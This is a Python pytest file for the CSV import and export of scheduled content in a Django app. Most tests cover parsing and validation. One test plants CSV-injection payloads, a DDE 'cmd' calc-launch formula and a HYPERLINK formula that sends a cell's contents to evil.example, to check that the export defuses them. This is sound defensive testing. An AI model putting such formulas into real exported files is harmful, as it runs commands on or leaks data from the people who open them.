"""CSV import (bulk-schedule format and koers' own) and export round trip."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.utils import translation

from koers.publishing import actions, csvio
from koers.publishing.models import ContentItem, State
from koers.strategy import actions as strategy_actions


def test_bulk_format_rows_are_imported_as_drafts_in_the_workspace_zone(acme, anna):
    data = (
        "2030-04-01 09:00,Lente in de winkel!,https://acme.example/lente\n"
        "30-03-2030 10:15;oops\n".replace(";", ",")
    ).encode()
    report = csvio.import_file(acme, anna, data)
    assert report.errors == []
    assert report.imported == 2
    first = ContentItem.objects.get(text="Lente in de winkel!")
    assert first.state == State.DRAFT
    assert first.link == "https://acme.example/lente"
    assert first.local_time.strftime("%H:%M") == "09:00"
    assert first.scheduled_at.isoformat() == "2030-04-01T07:00:00+00:00"


def test_semicolons_and_a_utf8_bom_are_accepted(acme, anna):
    data = "\ufeff2030-01-02 08:00;Gelukkig nieuwjaar — ook in Brussel\n".encode()
    report = csvio.import_file(acme, anna, data)
    assert report.imported == 1


def test_nothing_is_imported_when_a_row_has_an_error_and_errors_name_the_row(acme, anna):
    data = b"2030-03-29 09:00,Goed bericht\nmorgen,Slechte datum\n2030-03-29 09:00,,\n"
    with translation.override("nl"):
        report = csvio.import_file(acme, anna, data)
    assert report.imported == 0
    assert ContentItem.objects.count() == 0
    assert [number for number, _ in report.errors] == [2, 3]
    assert "is geen datum en tijd" in report.errors[0][1]
    assert "bericht is leeg" in report.errors[1][1]


def test_only_the_valid_rows_are_imported_on_request(acme, anna):
    data = b"2030-03-29 09:00,Goed bericht\nmorgen,Slechte datum\n"
    report = csvio.import_file(acme, anna, data, only_valid=True)
    assert report.imported == 1
    assert len(report.errors) == 1


def test_a_file_that_is_not_utf8_is_refused_with_a_reason(acme, anna):
    report = csvio.import_file(acme, anna, "2030-01-01 09:00,Café".encode("cp1252"))
    assert report.imported == 0
    assert "UTF-8" in report.errors[0][1]


def test_export_round_trips_through_import(acme, anna, hook, plan):
    campaign = actions.create_campaign(acme, anna, name="Lente", slug="lente")
    cycle = strategy_actions.create_cycle(
        acme, anna, name="2026", period_start=date(2026, 1, 1), period_end=date(2026, 12, 31)
    )
    objective = strategy_actions.add_example_objective(cycle, anna, index=0)
    plan(
        [hook],
        text='Tekst met, komma en "quotes"\nen een tweede regel',
        title="Lente-actie",
        link="https://acme.example/x",
        category="curated",
        campaign=campaign,
        objective=objective,
        notes="intern",
        approve=False,
    )
    out = io.StringIO()
    csvio.export(acme, out)
    before = list(ContentItem.objects.values_list(*FIELDS))
    ContentItem.objects.all().delete()

    report = csvio.import_file(acme, anna, out.getvalue().encode())
    assert report.errors == []
    assert list(ContentItem.objects.values_list(*FIELDS)) == before
    assert ContentItem.objects.get().deliveries.get().channel == hook


def test_export_writes_formula_text_as_text_and_the_import_gives_it_back(acme, anna, hook, plan):
    # A title, text and notes a spreadsheet would run as formulas (CSV injection).
    plan(
        [hook],
        text="=cmd|' /C calc'!A0",
        title='=HYPERLINK("https://evil.example/?"&A1,"klik")',
        notes="@SUM(1+1)",
        approve=False,
    )
    plan([hook], text="-2+3", title="+1+1", notes="'=blijft zo", approve=False)
    out = io.StringIO()
    csvio.export(acme, out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'-2+3" in cells and "''=blijft zo" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    before = sorted(ContentItem.objects.values_list(*FIELDS))
    ContentItem.objects.all().delete()

    report = csvio.import_file(acme, anna, out.getvalue().encode())
    assert report.errors == []
    assert sorted(ContentItem.objects.values_list(*FIELDS)) == before
    assert {"=cmd|' /C calc'!A0", "-2+3"} == set(ContentItem.objects.values_list("text", flat=True))


FIELDS = (
    "title",
    "text",
    "link",
    "category",
    "campaign__slug",
    "objective__title",
    "notes",
    "local_date",
    "local_time",
)


@pytest.mark.parametrize(
    "row, reason",
    [
        (
            "title,date,time,text,link,category,campaign,channels,objective,notes\nA,2030-01-01,09:00,T,,x,,,,\n",
            "unknown category",
        ),
        (
            "title,date,time,text,link,category,campaign,channels,objective,notes\nA,2030-01-01,09:00,T,,,nope,,,\n",
            "unknown campaign",
        ),
        (
            "title,date,time,text,link,category,campaign,channels,objective,notes\nA,2030-01-01,09:00,T,,,,Nope,,\n",
            "unknown channel",
        ),
        (
            "title,date,time,text,link,category,campaign,channels,objective,notes\nA,2030-01-01,09:00,T,geen-url,,,,,\n",
            "is not a web address",
        ),
        (
            "title,date,time,text,link,category,campaign,channels,objective,notes\n"
            "A,2030-01-01,09:00,T,,,,,Onbekend doel,\n",
            "unknown objective “Onbekend doel”",
        ),
    ],
)
def test_own_format_rows_are_checked_against_the_workspace(acme, anna, row, reason):
    with translation.override("en"):
        report = csvio.import_file(acme, anna, row.encode())
    assert report.imported == 0
    assert reason in report.errors[0][1]
